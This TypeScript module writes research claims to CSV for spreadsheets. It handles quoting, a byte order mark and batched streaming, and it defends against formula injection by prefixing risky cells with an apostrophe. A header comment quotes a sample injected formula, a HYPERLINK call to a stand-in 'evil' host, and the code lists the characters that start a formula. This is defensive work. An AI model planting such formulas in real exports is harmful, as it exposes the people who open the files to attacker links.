// Flat claim table for spreadsheets and scripts: one row per claim.
//
// Formula injection: a cell starting with = + - @ tab or CR (or their full-width forms) is a
// formula to Excel, LibreOffice and Google Sheets, so a note like `=HYPERLINK("http://evil",…)`
// would run when the file is opened. Such text cells are prefixed with an apostrophe (what
// csv-stringify's `escape_formulas` does, byte for byte), which spreadsheets hide and treat as "this is text". Scripts reading the
// file see the apostrophe, so a note that really starts with "-" reads back as "'-…". Numeric
// columns (start, end, paragraph, page) are numbers and never prefixed.
//
// A UTF-8 byte order mark is written by default so Excel does not misread curly quotes and
// non-Latin text; pandas, R and csv-parse (`bom: true`) skip it.

import { citationDate, displayTitle } from "../types";
import type { ExportChunk, ExportClaim, ExportClaimLink, MaybeAsyncIterable } from "./model";
import { claimDateWords, isReaderComment, restsOnKey } from "./provenance";

export const CSV_COLUMNS = [
  "id",
  "source_id",
  "source_title",
  "author",
  "publisher",
  "date",
  "kind",
  "quote",
  "note",
  "start",
  "end",
  "paragraph",
  "page",
  "linked_claims",
  "created_by",
  "created_at",
  "orphaned",
  "speaker",
  "speaker_role",
  "attribution",
  "rests_on",
  "claim_date",
] as const;

export interface CsvOptions {
  /** Prepend a UTF-8 BOM (default true). */
  bom?: boolean;
}

export interface CsvTableOptions {
  bom?: boolean;
  escapeFormulas?: boolean;
}

const BOM = "\uFEFF";
// Rows per chunk: big enough that the per-chunk cost (one stream write) is noise, small enough to stream.
const ROWS_PER_CHUNK = 500;

export type CsvCell = string | number | null;

/** A text cell that a spreadsheet would run as a formula starts with one of these. */
const FORMULA_START = new Set(["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]);
const NEEDS_QUOTES = /[",\n\r]/;

/** One cell as RFC 4180 text: the bytes csv-stringify writes (comma, double quote, "\n"), without
 *  its per-cell option handling, which was most of a 100,000-claim export's CPU time. */
function csvCell(cell: CsvCell, escapeFormulas: boolean): string {
  if (cell === null) return "";
  // Numbers are never prefixed (a negative offset is a number, not a formula).
  if (typeof cell === "number") return String(cell);
  let value = escapeFormulas && cell.length > 0 && FORMULA_START.has(cell[0]!) ? `'${cell}` : cell;
  if (NEEDS_QUOTES.test(value)) value = `"${value.replaceAll('"', '""')}"`;
  return value;
}

/** CSV text for rows, no header. Every row ends with "\n", so batches concatenate exactly.
 *  O(characters written). */
export function csvText(rows: CsvCell[][], escapeFormulas = true): string {
  let out = "";
  for (const row of rows) {
    for (let i = 0; i < row.length; i++) out += (i ? "," : "") + csvCell(row[i]!, escapeFormulas);
    out += "\n";
  }
  return out;
}

function headerText(columns: readonly string[], bom: boolean): string {
  return (bom ? BOM : "") + csvText([[...columns]], false);
}

/** Whole table as one string; same bytes as concatenating csvTableChunks. */
export function csvTable<T>(
  columns: readonly string[],
  items: Iterable<T>,
  toRow: (item: T) => CsvCell[],
  options: CsvTableOptions = {},
): string {
  const rows: CsvCell[][] = [];
  for (const item of items) rows.push(toRow(item));
  return headerText(columns, options.bom ?? false) + csvText(rows, options.escapeFormulas ?? true);
}

/** The header first (so an empty export is still a valid table), then rows in batches. */
export async function* csvTableChunks<T>(
  columns: readonly string[],
  items: MaybeAsyncIterable<T>,
  toRow: (item: T) => CsvCell[],
  options: CsvTableOptions = {},
): AsyncGenerator<string> {
  yield headerText(columns, options.bom ?? false);
  let batch: CsvCell[][] = [];
  for await (const item of items) {
    batch.push(toRow(item));
    if (batch.length >= ROWS_PER_CHUNK) {
      yield csvText(batch, options.escapeFormulas ?? true);
      batch = [];
    }
  }
  if (batch.length > 0) yield csvText(batch, options.escapeFormulas ?? true);
}

/** "CONTRADICTS:clm2; <SUPPORTS:clm3": a leading "<" marks a link pointing at this claim. */
export function formatLinkedClaims(links: readonly ExportClaimLink[]): string {
  return links.map((l) => `${l.direction === "in" ? "<" : ""}${l.relation}:${l.otherClaimId}`).join("; ");
}

export function claimCsvRow(c: ExportClaim): CsvCell[] {
  return [
    c.id,
    c.sourceId,
    displayTitle(c.source),
    // A reader comment is not the article author's: the byline is left out of its row.
    isReaderComment(c.prov) ? null : c.source.author,
    c.source.publisher,
    citationDate(c.source),
    c.kind,
    c.quote,
    c.note,
    c.start,
    c.end,
    c.paragraph,
    c.page,
    formatLinkedClaims(c.links),
    c.authorName,
    c.createdAt,
    c.orphaned ? "true" : "false",
    isReaderComment(c.prov) ? "reader comment" : c.prov.speaker?.name ?? null,
    c.prov.speaker?.role ?? null,
    c.prov.attribution,
    restsOnKey(c.prov.restsOn),
    claimDateWords(c.prov.claimDate),
  ];
}

export function renderCsv(claims: Iterable<ExportClaim>, options: CsvOptions = {}): string {
  return csvTable(CSV_COLUMNS, claims, claimCsvRow, { bom: options.bom ?? true, escapeFormulas: true });
}

/** The claims table from claims read in batches (ExportStream.batches): the header, then each
 *  batch as one chunk of rows (ExportChunk). Same bytes as renderCsv over the same claims. */
export async function* csvBatchChunks(batches: AsyncIterable<ExportClaim[]>, options: CsvOptions = {}): AsyncGenerator<ExportChunk> {
  yield headerText(CSV_COLUMNS, options.bom ?? true);
  for await (const claims of batches) yield claims.map((c) => csvText([claimCsvRow(c)]));
}

export function csvChunks(claims: MaybeAsyncIterable<ExportClaim>, options: CsvOptions = {}): AsyncGenerator<string> {
  return csvTableChunks(CSV_COLUMNS, claims, claimCsvRow, { bom: options.bom ?? true, escapeFormulas: true });
}
